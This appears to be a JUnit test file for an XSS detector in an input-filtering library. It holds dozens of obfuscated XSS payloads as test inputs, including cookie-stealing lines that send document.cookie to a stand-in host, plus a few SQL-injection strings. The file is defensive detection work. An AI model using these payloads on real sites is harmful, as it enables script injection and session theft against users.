package dev.lambdaguard.input.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.lambdaguard.input.Category;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * The XSS detector, rule by rule: payloads written from how browsers parse markup, URLs, CSS and script (not copied
 * from the corpus), their obfuscations, and the benign look-alikes that must pass.
 */
class XssDetectorTest {

  private final XssDetector detector = new XssDetector();

  private String rule(String value) {
    Detection d = detector.detect(Normalized.of(value));
    return d == null ? null : d.ruleId();
  }

  private void assertRule(String ruleId, String... values) {
    List<String> wrong = new ArrayList<>();
    for (String v : values) {
      String got = rule(v);
      if (!ruleId.equals(got)) {
        wrong.add(got + " <- " + v);
      }
    }
    assertTrue(wrong.isEmpty(), "expected " + ruleId + ":\n" + String.join("\n", wrong));
  }

  private void assertDetected(String... values) {
    List<String> missed = new ArrayList<>();
    for (String v : values) {
      if (rule(v) == null) {
        missed.add(v);
      }
    }
    assertTrue(missed.isEmpty(), "missed:\n" + String.join("\n", missed));
  }

  private void assertPasses(String... values) {
    List<String> flagged = new ArrayList<>();
    for (String v : values) {
      String got = rule(v);
      if (got != null) {
        flagged.add(got + " <- " + v);
      }
    }
    assertTrue(flagged.isEmpty(), "flagged:\n" + String.join("\n", flagged));
  }

  // ---------------------------------------------------------------- contract

  @Test
  void itIsTheXssCategoryWithStableDotSeparatedRuleIds() {
    assertEquals(Category.XSS, detector.category());
    for (XssRule r : XssRule.values()) {
      assertTrue(r.detection.ruleId().matches("xss\\.[a-z]+(-[a-z]+)*"), r.detection.ruleId());
      assertEquals(Category.XSS, r.detection.category());
    }
    assertEquals(95, XssRule.SCRIPT_TAG.score());
    assertEquals("xss.js-url", XssRule.JS_URL.detection.ruleId());
    assertEquals("xss.js-url", XssRule.JS_URL_IN_TAG.detection.ruleId());
  }

  @Test
  void aDetectionCarriesNoPartOfTheValue() {
    Detection d = detector.detect(Normalized.of("<img src=x onerror=steal('canary-7f3a')>"));
    assertNotNull(d);
    assertFalse(d.toString().contains("canary"));
    assertFalse(d.ruleId().contains("canary"));
  }

  @Test
  void theSameDetectionInstanceIsReturnedSoAScanAllocatesNone() {
    assertTrue(detector.detect(Normalized.of("<script>go()</script>")) == detector.detect(Normalized.of("<SCRIPT>")));
  }

  // ---------------------------------------------------------------- xss.script-tag

  @Test
  void scriptStartTagsAreFoundHoweverTheyAreWritten() {
    assertRule("xss.script-tag",
        "<script>fetch('//x.example/c?'+document.cookie)</script>",
        "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
        "<sCrIpT>go()</ScRiPt>",
        "<script\nsrc=//x.example/a.js>",
        "<script\tasync\fsrc=//x.example/a.js>",
        "<script/defer/src=//x.example/a.js>",
        "\"><script src=//x.example/a.js>",
        "<script src=//x.example/a.js",
        "<svg><svg:script>go()</svg:script>",
        "<scr<script>ipt>go()</script>",
        "<script<{go()}>",
        "text before <script>go()</script> text after");
  }

  @Test
  void aScriptEndTagAloneOrAWordNamedScriptIsNoScriptTag() {
    assertPasses("</script>", "the script was great", "<scripts are fun>", "<script-editor>", "scripting <b>101</b>");
  }

  // ---------------------------------------------------------------- xss.event-handler

  @Test
  void eventHandlersOnAnyTagAreFoundAsTheTokenizerReadsAttributes() {
    assertRule("xss.event-handler",
        "<img src=x onerror=go()>",
        "<svg/onload=go()>",
        "<body\tonpageshow=go()>",
        "<made-up onanything=1>",
        "<details open ontoggle=go()>",
        "<a href=# OnClIcK=go()>click</a>",
        "<img/src/onerror=go()>",
        "<div\fonmouseover=go()>",
        "<input autofocus onfocus=go()",
        "<img src=\"a\"onerror=go()>",
        "<x a='>' onfoo=go()>",
        "<x a=\"1\" b='2' onclick=\"go()\">",
        "<img src=`a`onerror=go()>",
        "<video><source onerror=go()>",
        "<svg><set attributeName=onclick to=go()>",
        "<x </onfoo=1");
  }

  @Test
  void frameworkEventBindingsRunTheirValueAsHandlersDo() {
    assertRule("xss.event-handler", "<button @click=\"go()\">", "<x (click)=\"go()\">", "<x v-on:click=\"go()\">",
        "<x x-on:mouseover=\"go()\">", "<input autofocus ng-focus=\"$event.composedPath()|orderBy:'go'\">");
    assertPasses("<div ng-app ng-model=\"x\">", "<x (name)>", "<p @>");
  }

  @Test
  void aFrameworkDirectiveWhoseExpressionReachesTheFunctionConstructorRunsCode() {
    // Vue evaluates v-* and :attr values when it renders; the constructor of a function makes code of a string.
    assertRule("xss.event-handler",
        "<div v-html=\"''.constructor.constructor('go()')()\">a</div>",
        "<p :title=\"constructor.constructor('go()')()\">");
    assertPasses("<li v-for=\"item in items\">{{ item.name }}</li>", "<p v-if=\"show()\">x</p>",
        "<div v-html=\"post.body\"></div>", "<p :class=\"{active: isActive('x')}\">",
        "<p title=\"the constructor.constructor pattern\">");
  }

  @Test
  void aTagInsideAnAttributeValueOrACommentIsReadAsATagToo() {
    assertRule("xss.event-handler",
        "<img alt=\"<img src=x onerror=go()>\">",
        "<!-- <img src=\"--><img src=x onerror=go()//\">",
        "<style><img title=\"</style><img src=x onerror=go()>\">",
        "<a title=\"x\" <img src=x onerror=go()>");
  }

  @Test
  void wordsThatStartWithOnOrTagsWithoutHandlersAreNoEventHandlers() {
    assertPasses("<a one=1 only=2>", "<img src=\"cat.png\" alt=\"cat\">", "<input type=\"text\" name=\"q\">",
        "set the onload handler in your code", "el.onclick = handler;", "window.onload=init",
        "<div class=\"online\">", "Button(text = \"Save\", onClick = { viewModel.save() })");
  }

  // ---------------------------------------------------------------- xss.attribute-breakout

  @Test
  void aQuoteOrSpaceThatEndsAnAttributeValueThenAHandlerIsABreakout() {
    assertRule("xss.attribute-breakout",
        "\" onmouseover=go() x=\"",
        "' autofocus onfocus=go() '",
        "\"autofocus/onfocus=go()//",
        " onclick=go()",
        "x\" onpointerenter=\"go()",
        "%22%20onmouseover%3Dgo()%20",
        "'onfocus=`go()` autofocus '");
  }

  @Test
  void quotesInProseAndHandlersWithoutCodeAreNoBreakout() {
    assertPasses("He said \"onclick\" is bad", "I'd say it's 'ok'; really", "\" onx=1", "O'Brien, \"Sean\"",
        "score=95;grade=A", "name='O''Brien'");
  }

  // ---------------------------------------------------------------- xss.js-url

  @Test
  void scriptUrlsInAttributesAreFoundWithTheObfuscationsBrowsersTolerate() {
    assertRule("xss.js-url",
        "<a href=\"javascript:go()\">x</a>",
        "<a href='JaVaScRiPt:go()'>",
        "<a href=\"jav&#x09;ascript:go()\">",
        "<a href=\"jav\tascript:go()\">",
        "<a href=\"java\nscript:go()\">",
        "<a href=\"&#1;javascript:go()\">",
        "<a href=\" \u0001 javascript:go()\">",
        "<a href=\"\\x0Fjavascript:go()\">",
        "<a href=\"java\u0000script:go()\">",
        "<a href=\"javascript&colon;go()\">",
        "<a href=\"java%0ascript:go()\">",
        "<a href=\"ｊａｖａｓｃｒｉｐｔ：go()\">",
        "<a href=\"\\u006aavascript:go()\">",
        "<iframe src=\"vbscript:msgbox(1)\">",
        "<form action=javascript:go()><button>",
        "<math><x xlink:href=javascript:go()>x",
        "<a href=`javascript:go()`>",
        "<meta http-equiv=refresh content=\"0;url=javascript:go()\">");
  }

  @Test
  void aSchemeWhoseLastLetterIsEscapedOrFollowedByJunkStillEndsAtItsColon() {
    // the look back from a colon leaves at once after most letters: these end with what it must still read
    assertRule("xss.js-url",
        "javascrip\\x74:go()",
        "javascrip\\u0074:go()",
        "javascrip\\u{74}:go()",
        "javascrip\\164:go()",
        "javascript\u0001:go()",
        "JavascripT:go()",
        "mochA:go()");
  }

  @Test
  void aValueThatIsAScriptUrlWithCodeIsFoundOutsideMarkup() {
    assertRule("xss.js-url",
        "javascript:go()",
        "JAVASCRIPT:void(document.title=1)",
        "javascript://%0ago()",
        "  javascript:(function(){go()})()",
        "next=javascript:go()",
        "vbscript:msgbox(1)");
  }

  @Test
  void theWordJavascriptFollowedByProseIsNoScriptUrl() {
    assertPasses("JavaScript: The Good Parts", "I love javascript: it's fun (mostly)",
        "JavaScript: (the language) is weird", "javascript:", "see myjavascript:go()",
        "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference");
  }

  @Test
  void aScriptUrlInAScriptStringMaySpellItsCodeWithEscapesOfPlainLetters() {
    // In a JavaScript string \c is c: open`javas\cript:g\o(1)` opens javascript:go(1).
    assertRule("xss.js-url",
        "top.open`javas\\cript:g\\o(1)`",
        "location=\"javas\\cript:g\\o(1)\"",
        "javascript:g\\o(document.cookie)");
  }

  @Test
  void aScriptUrlWhoseCodeFollowsALabelAndACommentedLineIsFound() {
    // javascript:https://x/ is a label and a comment; the line end (sent as %0a) starts the code. The URL parser
    // drops tabs, so they may split the name.
    assertRule("xss.js-url",
        "javascript:https://x.example/%0ago(1)",
        "javascript:http://x.example/a?b%0d%0ago()",
        "javascript:https://x.example/%0Ag%09o(1)");
  }

  @Test
  void aLinkAfterTheWordJavascriptInProseIsNoScriptUrl() {
    assertPasses("JavaScript: https://developer.mozilla.org/ great docs (really)", "javascript:https://example.com",
        "JavaScript: https://javascript.info\nsummary(2024)", "JavaScript:https://javascript.info is good",
        "C:\\tools\\javascript:\\docs", "javascript: the good parts (2008)", "javascript:\\s+\\w+");
  }

  // ---------------------------------------------------------------- xss.data-url

  @Test
  void dataUrlsThatRenderMarkupOrScriptAreFound() {
    assertRule("xss.data-url",
        "<iframe src=\"data:text/html,<b>hi</b>\">",
        "<object data=\"data:text/html;base64,PGI+aGk8L2I+\">",
        "<embed src=data:image/svg+xml,x>",
        "<a href=\"DATA:TEXT/HTML,x\">x</a>",
        "data:text/html;base64,PGI+aGk8L2I+",
        "<a href=\"data:application/octet-stream;base64,PHN2ZyBvbmxvYWQ9Z28oKT4=\">x</a>");
  }

  @Test
  void imageDataUrlsPass() {
    assertPasses("data:image/png;base64,iVBORw0KGgo=", "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">",
        "background: url(data:image/svg+xml;base64,PHN2Zz4=)");
  }

  // ---------------------------------------------------------------- xss.dangerous-tag

  @Test
  void tagsThatLoadOrRedirectToActiveContentAreDangerous() {
    assertRule("xss.dangerous-tag",
        "<iframe src=//x.example/a.html>",
        "<iframe srcdoc=\"hello\">",
        "<object data=//x.example/a.swf>",
        "<embed src=//x.example/a.swf>",
        "<applet code=A.class>",
        "<base href=//x.example/>",
        "<meta http-equiv=refresh content=\"0;url=//x.example\">",
        "<meta http-equiv=\"Set-Cookie\" content=\"a=b\">",
        "<meta charset=utf-7>",
        "<meta http-equiv=content-type content=\"text/html; charset=x-imap4-modified-utf7\">",
        "<link rel=import href=//x.example/a.html>",
        "<xml src=//x.example/a.xml>",
        "<style type=text/javascript>go()</style>",
        "<span datasrc=#x datafld=b dataformatas=html>",
        "<v:vmlframe src=\"//x.example/a.fml\"/>",
        "<link href=a.js rel=stylesheet type=\"text/javascript\">");
  }

  @Test
  void theSameTagsDoingOrdinaryThingsPass() {
    assertPasses("<meta charset=\"utf-8\">", "<meta name=\"viewport\" content=\"width=device-width\">",
        "<base href=\"/\">", "<link rel=\"stylesheet\" href=\"/style.css\">", "<iframe>", "<object>",
        "<form action=\"/search\" method=\"get\">", "<style>body { margin: 0; }</style>",
        "<svg width=\"24\" height=\"24\"><path d=\"M0 0h24v24H0z\"/></svg>", "<?xml version=\"1.0\"?>",
        "<v:vmlframe>", "a vmlframe src=x.fml in prose", "<link rel=\"stylesheet\" type=\"text/css\" href=\"/a.css\">",
        "<link rel=\"preload\" as=\"script\" type=\"text/javascript\" href=\"/a.js\">");
  }

  // ---------------------------------------------------------------- xss.css-expression

  @Test
  void ieCssExpressionsAndBindingsAreFoundThroughCommentsAndEscapes() {
    assertRule("xss.css-expression",
        "<div style=\"width:expression(go())\">",
        "<p style=\"x:ex/**/pression(go())\">",
        "<p style=\"x:\\65 xpression(go())\">",
        "<p style=\"x:expression\\28go())\">",
        "<p style=\"x:ｅｘｐｒｅｓｓｉｏｎ(go())\">",
        "<p style=\"expression(go())\">",
        "<style>a{b: expression(go())}</style>",
        "<x style=\"behavior: url(a.htc)\">",
        "<style>body{-moz-binding:url(//x.example/a.xml#b)}</style>",
        "x:expression(go())",
        "\" style=x:expression(go()) \"");
  }

  @Test
  void theWordExpressionInProseOrPlainStylesPass() {
    assertPasses("Usage: expression(args) returns a value", "Syntax: expression (a, b)",
        "<p style=\"color:red\">hi</p>", "a regular expression (regex)");
  }

  @Test
  void aBindingPropertySpelledWithCssEscapesIsStillABinding() {
    // CSS reads \m as m and \67 as g: Firefox's XBL and IE's behaviours loaded through the escaped property.
    assertRule("xss.css-expression",
        "<div style=\"\\-\\mo\\z-binding:url(//x.example/a.xml#b)\">",
        "<div style=\"-moz-bindin\\67:url(//x.example/a.xml#b)\">",
        "<div style=\"-moz-bindin&#x5c;67:url(//x.example/a.xml#b)\">",
        "<div/style=\\-\\mo\\z\\-b\\i\\nd\\in\\g:\\url(//x.example/a.xml#b)>",
        "<x style=\"beh\\61vior:url(a.htc)\">");
    assertPasses("C:\\moz\\binding: url(x) is a path", "background: url(a.png)", "a\\b:url(x)",
        "<div style=\"background:url(/img/a\\ b.png)\">", "C:\\web\\hav\\ior: url(x)");
  }

  @Test
  void aScriptUrlInsideCssIsAScriptUrl() {
    assertRule("xss.js-url", "<div style=\"background:url(javascript:go())\">",
        "<div style=\"background:url('\\6a avascript:go()')\">");
    assertDetected("<style>@import'\\ja\\vasc\\ript:go()';</style>");
  }

  // ---------------------------------------------------------------- xss.js-context

  @Test
  void aStringBreakoutInAScriptContextThatCallsAndKeepsParsingIsFound() {
    assertRule("xss.js-context",
        "';go(1)//",
        "\"-go(1)-\"",
        "\\';go(1)//",
        "'}go(1);{'",
        "');go(1)//",
        "'+go(1)+'",
        "\";x=new Image;x.src='//x.example/?'+document.cookie;//",
        "1;go(1)//",
        "}go(1);{//",
        "<x title=\"&{go()}\">");
  }

  @Test
  void codeSqlAndProseWithQuotesAreNoScriptBreakout() {
    assertPasses("print('a'); print('b')", "\"Hello \" + name.toUpperCase() + \"!\"", "' or 1=1--",
        "'; exec xp_cmdshell('dir')--", "' or sleep(5)='", "x = 'a' + f() + 'b'",
        "console.log(\"it's done\");", "for (int i = 0; i < n; i++) sum += a[i];", "const x = foo(); // init");
  }

  @Test
  void aBreakoutWhoseCallThePagesOwnQuoteAndParenthesisCompleteIsFound() {
    // In f('…') the page writes ') after the value: '); go('1 reads f(''); go('1').
    assertRule("xss.js-context",
        "'); go('1",
        "\"); go(\"x",
        "x'); go('1",
        "')+go('1",
        "')); go(String('1");
  }

  @Test
  void aBreakoutThatNavigatesOrHandsADialogToOnerrorOrEndsItsLineIsFound() {
    // No parentheses: onerror=alert with a throw calls alert; location=name navigates to a javascript: name; a line
    // end (also U+2028) ends a statement as ';' does.
    assertRule("xss.js-context",
        "';throw onerror=alert,1;'",
        "'\nthrow onerror=alert,1\n'",
        "'\u2028throw onerror=eval,name\u2028'",
        "'-[location=name]-'",
        "'-[location.href=name]-'");
    assertPasses("it's\nfine (really)\n'", "print('a')\nprint('b')", "set location = home; then go('x", "'-[1,2]-'",
        "location='Berlin', 'nice'", "He wrote: 'no\nthrow it away, alert(me)\n' ok", "'; onerror = alert; // comment",
        "Name: 'Bob'\nCity: 'Paris (FR)'", "['a', 'b'].map(f)");
  }

  @Test
  void quotesAndParenthesesThatThePageCannotCompleteAreNoBreakout() {
    assertPasses("print('a'); print('b", "It's done'); see('notes", "foo('a'); bar('b')",
        "'); DROP TABLE users; --", "see (the 'notes", "a < b and c > d", "Mail <john.doe@example.com>",
        "`f('x')` then g('y", "'}); go('1", "'); go('1\\");
  }

  // ---------------------------------------------------------------- xss.js-sink

  @Test
  void scriptThatReachesExecutionWithoutMarkupIsASink() {
    assertRule("xss.js-sink",
        "alert(1)",
        "prompt(document.domain)",
        "confirm()",
        "[1].map(alert)",
        "(confirm)(1)",
        "alert`1`",
        "top[/al/.source+/ert/.source](1)",
        "self['al'+'ert'](1)",
        "eval(location.hash.slice(1))",
        "eval(atob(name))",
        "constructor.constructor('go()')()",
        "{{$on.constructor('go()')()}}",
        "window.alert(1)",
        "x=alert,x(1)",
        "onerror=alert;throw 1",
        "top['alert'](1)",
        "window[\"alert\"](window[\"document\"][\"cookie\"])",
        "window['eval'](location.hash.slice(1))");
  }

  @Test
  void anEvaluatorCalledThroughCallOrApplyOrANewNameIsASink() {
    assertRule("xss.js-sink",
        "eval.call(this,unescape.call(this,location))",
        "eval.apply(null,[location.hash.slice(1)])",
        "_=eval,__=unescape,___=document.URL,_(__(___))",
        "$$$=eval,$$$(name)",
        "x=eval;x(location.hash.slice(1))");
    assertPasses("eval.call(null, code)", "var e = eval; e(code)", "run(eval)", "python main.py --mode=eval",
        "set mode=eval, then call train()", "split=eval; report(x)", "ctx.call(this, x)", "fn.apply(null, args)");
  }

  @Test
  void aDialogHandedToATaggedTemplateIsCalledByTheTag() {
    // sort.call receives alert as its comparator and calls it.
    assertRule("xss.js-sink", "[].sort.call`${alert}1`", "[ ] . sort . call ` ${ alert } 1 `",
        "[].map.call`${eval}x`");
    assertPasses("Use `${alert}` in templates", "html`<b>${name}</b>`", "css.call`${color}`",
        "see [].sort.call for details, and `${x}`");
  }

  @Test
  void scriptWrittenWithSixCharactersIsASink() {
    // []()!+ alone spell any name and call it (JSFuck): a long run of all six, in a value without letters.
    assertRule("xss.js-sink", "[][(![]+[])[+!+[]]]".repeat(16) + "()");
    assertPasses("(" + "!".repeat(300) + ")[]+", "1 + (2) [3] ".repeat(40), "[(" + "+".repeat(300) + ")]!",
        "!!! [ok] (!!) +1 ".repeat(30), "[][(![]+[])]");
  }

  @Test
  void ordinaryCallsOfTheSameFunctionsPass() {
    assertPasses("alert(\"Saved!\")", "window[handler](event)", "eval(expr)", "window[\"alert\"](\"Saved!\")",
        "window['eval'](expr)", "window['onload'](e)",
        "if (confirm(\"Delete this item?\")) remove(id);", "setTimeout(function() { location.reload(); }, 100)",
        "arr.forEach(function(url) { load(url); })");
  }

  // ---------------------------------------------------------------- escapes, encodings, obfuscation

  @Test
  void javascriptEscapesThatSpellMarkupAreReadAsMarkup() {
    assertRule("xss.script-tag", "\\u003cscript\\u003ego()\\u003c/script\\u003e", "\\x3cscript\\x3e",
        "\\74script\\76go()", "\\u{3c}script>");
    assertRule("xss.event-handler", "\\x3cimg src=x onerror=go()\\x3e", "<img src=x \\x0Bonerror=go()>");
  }

  @Test
  void namesSpelledWithEscapesOrReferencesAreObfuscatedCalls() {
    assertRule("xss.obfuscated-call", "go\\u0031(1)", "top['g\\x6f'](1)", "top[\"g\\157\"](1)",
        "go&lpar;1&rpar;", "go&#40;1&#41", "go&#x28;1&#x29;");
    assertPasses("C:\\Users\\x64\\file.txt", "\"caf\\u00e9\"", "printf(\"%d\\n\", x);",
        "It&#39;s great &#40;really&#41;");
  }

  @Test
  void encodingsAreUndoneBeforeTheTokenizerReads() {
    assertRule("xss.script-tag",
        "%3Cscript%3Ego()%3C/script%3E",
        "%253Cscript%253E",
        "&lt;script&gt;go()&lt;/script&gt;",
        "&#60;script&#x3E;",
        "＜ｓｃｒｉｐｔ＞",
        "<scr%00ipt>go()</script>",
        "+ADw-script+AD4-go()+ADw-/script+AD4-",
        "\"><script+src=//x.example/a.js></script>");
    assertRule("xss.event-handler", "%3Cimg%20src%3Dx%20onerror%3Dgo()%3E", "<img\nsrc=x\nonerror=go()>",
        "&lt;svg/onload=go()&gt;", "\u00bcimg src=x onerror=go()\u00be");
  }

  @Test
  void aLessThanWithItsHighBitSetIsReadAsOldIeReadItAlsoWhenPercentEncoded() {
    // IE on a page declared US-ASCII dropped the eighth bit: the byte BC (sent as %BC) read as '<'.
    assertRule("xss.script-tag", "%BCscript%BEgo()%BC/script%BE", "%bcscript%bego(1)%bc/script%be");
    // BC is also the last byte of UTF-8 characters: %C3%BC is u with an umlaut.
    assertPasses("%C3%BCber uns", "Gr%C3%BC%C3%9Fe aus M%C3%BCnchen", "x=%E2%80%BCabc", "1%BC cup of sugar",
        "\u00bd cup, \u00bc teaspoon");
  }

  @Test
  void markupOnlyACharsetTrickReadsIsEncodedMarkup() {
    assertRule("xss.encoded-markup", "+ADw-b+AD4-hi+ADw-/b+AD4-");
  }

  @Test
  void aValueThatIsOnlyAnEncodedAngleBracketIsAProbe() {
    assertRule("xss.encoded-probe", "&#x3c;", "&lt;", "%3C", "\\u003c", "\\x3e", "&#0000060");
    assertPasses("<", ">", "&lt;3", "a &lt; b");
  }

  // ---------------------------------------------------------------- benign look-alikes

  @Test
  void textWithAngleBracketsAndCodeSnippetsPass() {
    assertPasses(
        "a < b < c", "x<y and y>z", "Meh. Battery life < 6 hrs; the ad said > 10", "<3", "i <3 u", "ILoveMyDog<3",
        "Jane Doe <jane.doe@example.com>", "<john@example.com>", "Tom & Jerry", "AT&T", "if (a < b) { return; }",
        "List<String> names = new ArrayList<>();", "Map<String, List<Integer>> byDay = new HashMap<>();",
        "public static <T extends Comparable<T>> T max(List<T> xs)", "#include <stdio.h>",
        "std::vector<int> v{1, 2, 3};", "template<typename T> T id(T t);", "Kids under 12 (<12) eat free",
        "<-- back | next -->", "x => x * 2", "a<b>c", "<=5 items", "0 <= p <= 1", "if x < 5 and y > 3 then z = x + y",
        "arr.filter(x => x % 2 === 0)", "pip install 'requests>=2.31,<3'", "match x { Some(v) => v, None => 0 }");
  }

  @Test
  void markdownUrlsHtmlEscapedTextAndHarmlessTagsPass() {
    assertPasses(
        "**bold** _it_ [link](https://example.com) `code`", "> quoted text\n> more",
        "https://www.example.com/search?q=shoes&size=10&on=1", "mailto:john@example.com", "tel:+15551234567",
        "Great product! &lt;b&gt;Highly&lt;/b&gt; recommend.", "&quot;Best purchase ever&quot;",
        "<kbd>Ctrl</kbd> + <kbd>C</kbd>", "<name>Jane</name>", "<!-- -->", "<dependency> goes in <dependencies>",
        "<a href=\"https://example.com\">link</a>", "<b>bold</b> and <i>it</i>", "<br/>", "<?php echo $x; ?>",
        "<https://example.com/docs>", "time: 10:30, ratio 3:2", "Re: your order #12345 (shipped)",
        "curl -H \"Accept: application/json\" https://api.example.com/v1/items?id=3",
        "ls -la | grep foo; echo \"done\"", "{\"a\": \"b\", \"c\": [1, 2], \"on\": true}",
        "SELECT * FROM t WHERE a = 'x';", "document.getElementById('app').textContent = name;",
        "window.location.href = \"/home\";", "$(\"#id\").on(\"click\", fn);", "print(f\"{name}: {value}\")",
        "The ::before pseudo-element", "a[href^=\"http\"] { color: blue; }", "template literal `${name}` in JS",
        "Step 1 > Step 2 > Step 3", "ok:true", "password: hunter2 (don't share!)");
  }

  @Test
  void textInOtherScriptsAndEmojiPasses() {
    assertPasses("Доставка завтра (до 18:00)", "注文番号：12345（確認済み）", "¡Hola! ¿Qué tal?", "👍 great <3 🎉",
        "مرحبا: كيف حالك؟", "Ｔｏｋｙｏ：ｏｋ");
  }

  // ---------------------------------------------------------------- adversarial input

  @Test
  void aMegabyteOfNearMissesIsScannedWithoutBlowingUp() {
    String[] units = {"<", "<a", "<a ", "<a b=", "<a b=\"", "<a/", "</a", "<?a ", "<script", "<style>", "'", "\"",
        "`", "'-", "';a", "';a(", "\\", "\\x", "\\u0061", "\\6a", ":", "j:", "javascript", "java\tscript",
        "data:", "x:expression", "(", "[", "top[", "alert(", "=alert,", " onx=", "\"onx=a(", "&{", "/*", "'/*",
        "};a(", "+ADw", "\u00bc"};
    for (String unit : units) {
      String value = unit.repeat((1 << 20) / unit.length() + 1);
      Detection d = detector.detect(Normalized.of(value));
      if (d != null) {
        assertTrue(d.score() > 0 && d.score() <= 100);
      }
    }
    String longAttributes = "<a " + "b=c ".repeat(250_000) + "onclick=go()>";
    assertEquals("xss.event-handler", rule(longAttributes));
  }

  @Test
  void aMegabyteOfCallsEscapesOrTemplateQuotesPasses() {
    // Floods whose checks look ahead at every unit: an evaluator's argument for a source, a quote's run for a call,
    // an escape for a scheme or an escaped name. Each look-ahead is remembered or told from the unit alone.
    String[] units = {"eval(", "=`", "\\u", "\\x", "\\\\u", "\\\\x", "new Function(", "execScript(", "Function(",
        "document.write(", "\\u000a", "`", "alert(", "prompt(", "confirm(", "vbscript:", "javascript:", "'a'='a",
        "'t'='t", "\"l\"+\"l"};
    for (String unit : units) {
      assertNull(rule(unit.repeat((1 << 20) / unit.length() + 1)), unit);
    }
  }

  @Test
  void aQuoteStartsNoRunWhenNothingAfterItWithinTheRunCanMakeACall() {
    // A run's call needs a parenthesis, a tagged template, an assigned member, a navigation or a throw: quotes
    // without any of these ahead are passed over, and each of them ahead still makes the run read.
    assertRule("xss.js-context", "x';alert(1)//", "x';location=name//", "x';a.href=name//", "x'-alert`1`-'",
        "x';onerror=alert;throw 1//", "x';LOCATION=name//", "x';alert /**/ `1`//");
    assertPasses("'a'='b'", "x';a=b//", "x';a=`b`//", "x'=`a`=`b`", "It's 'a'='a', isn't it?");
    String flood = "'a'='a".repeat(20_000);
    assertRule("xss.js-context", flood + "';alert(1)//", flood + "';location=name//");
    assertRule("xss.js-context", "=`".repeat(50_000) + "';alert(1)//");
  }

  @Test
  void aQuoteStartsNoRunWhenNoCommentOrClosingQuoteLiesWithinItsReach() {
    // A run ends in a breakout only at a comment, </script, or its quote after an operator or a line end: a flood
    // of tagged templates (a call at every step, none of these) passes its quotes over, and each ending still counts.
    // A dot makes a member assignment only before a name: a flood of a.'= has no sign of a call.
    assertRule("xss.js-context", "x`;alert`1`//", "x`;alert`1`<!--", "x`;alert`1`</script>", "x`;alert`1`-->",
        "x`;alert`1`;`", "x`;alert`1`\n`", "x';alert`1`;'", "x\";alert`1`+\"");
    assertPasses("a`,a`,a`,a`", "1`;1`;1`;");
    // groups that never close ("x(`%", "'a'='aa(="): each run stops at one without reading it to its window's end
    for (String unit : new String[] {"a`,", "1`;", "a``", "f`x`;", "a.'=", "x(`%", "'a'='aa(="}) {
      // an even count of quotes: the attack's own is then the odd one that closes a string
      String flood = unit.repeat(2 * (50_000 / unit.length()));
      assertNull(rule(flood), unit);
      String late = ";" + "a".repeat(150) + "//"; // the comment near the end of the attack's run
      for (String attack : new String[] {" x`;alert`1`//", " x';alert(1)//", " x`;y=`1`;location=name//",
          " x';y. src=name//", " x';alert(1)" + late, " x`;alert`1`" + late,
          " x';alert(" + "1,".repeat(40) + "1)//"}) { // a group that closes near the end of what is read of it
        assertNotNull(rule(attack), attack);
        assertEquals(rule(attack), rule(flood + attack), () -> unit + " then " + attack);
        // text after it: the attack's run then ends short of the value's end, and only its comment ends it
        assertEquals(rule(attack), rule(flood + attack + " and more text".repeat(30)), () -> unit + " then " + attack);
      }
    }
  }

  @Test
  void aClosedStringJoinedToACallByADotOrFollowedByPhpOutputBreaksOut() {
    // A dot after the closing quote makes the string a member's receiver in JavaScript and joins it in PHP: a call
    // after it runs (its arguments first), and the value then rejoins the string or ends in a comment.
    assertRule("xss.js-context", "\".exit(md5('x'));//", "'.md5('x').'", "x'.constructor.constructor('alert(1)')()//",
        "'.concat(alert(1)).'");
    // PHP's echo and print take an expression without parentheses, as typeof does
    assertRule("xss.js-context", "';echo md5(1);//", "\";print md5('x');//");
    // a sentence's full stop after a quotation, or a method called on a string that ends nothing
    assertPasses("He said 'yes'. Then he left (quickly).", "It's 'a'.b(c) today", "Use 'x'.trim() there",
        "the '.' (dot) operator", "I heard an 'echo' of it; print it out (please) // thanks");
  }

  @Test
  void quotesFarApartInLongTextAreEachJudgedByWhatLiesWithinTheirReach() {
    // The look-ahead for a run's end reads only within reach of the quotes that ask: a quote a few hundred
    // characters on still sees the comment that ends its own run, near or at the far end of it.
    String text = "lorem ipsum dolor sit amet ".repeat(12);
    String quiet = (text + "x'+a(b) " + text + "it`s(x) ").repeat(200);
    assertNull(rule(quiet));
    for (String attack : new String[] {"x';alert(1)//", "x';alert(1);" + "a".repeat(150) + "//",
        "x`;alert`1`" + ";" + "b".repeat(160) + "<!--"}) {
      assertNotNull(rule(attack), attack);
      assertEquals(rule(attack), rule(quiet + attack), attack);
      assertEquals(rule(attack), rule(quiet + attack + text), attack);
    }
  }

  @Test
  void anAttackAfterAFloodOfCallsEscapesOrTemplateQuotesIsStillFound() {
    // What a flood's look-ahead remembers never hides what follows it: the attack is read where it stands.
    String[][] cases = {
        {"xss.js-sink", "eval(", "eval(location.hash.slice(1))"}, {"xss.js-sink", "eval(", " eval(name)"},
        {"xss.js-sink", "new Function(", "new Function(atob(name))()"},
        {"xss.js-sink", "execScript(", "execScript(unescape(location))"},
        {"xss.js-sink", "Function(", "Function(location.hash.slice(1))()"},
        {"xss.js-sink", "document.write(", "document.write(location.hash)"},
        {"xss.js-context", "=`", "';alert(1)//"}, {"xss.js-context", "`", "';alert(1)//"},
        {"xss.js-sink", "`", "alert`1`"},
        {"xss.js-url", "\\u", "\\u006aavascript:alert(1)"}, {"xss.obfuscated-call", "\\u", " al\\u0065rt(1)"},
        {"xss.js-url", "\\x", "\\x6aavascript:alert(1)"}, {"xss.script-tag", "\\x", " \\x3cscript\\x3e"},
        {"xss.js-url", "\\\\u", " \\u006aavascript:alert(1)"},
        {"xss.obfuscated-call", "\\\\x", " top['al\\x65rt'](1)"},
        {"xss.script-tag", "\\u000a", "\\u003cscript\\u003e"},
        {"xss.js-sink", "alert(", "alert(1)"}, {"xss.js-sink", "prompt(", "prompt(1)"},
        {"xss.js-sink", "confirm(", "confirm(document.domain)"},
        {"xss.js-url", "vbscript:", " vbscript:msgbox(1)"}, {"xss.js-url", "javascript:", " javascript:alert(1)"}};
    for (String[] c : cases) {
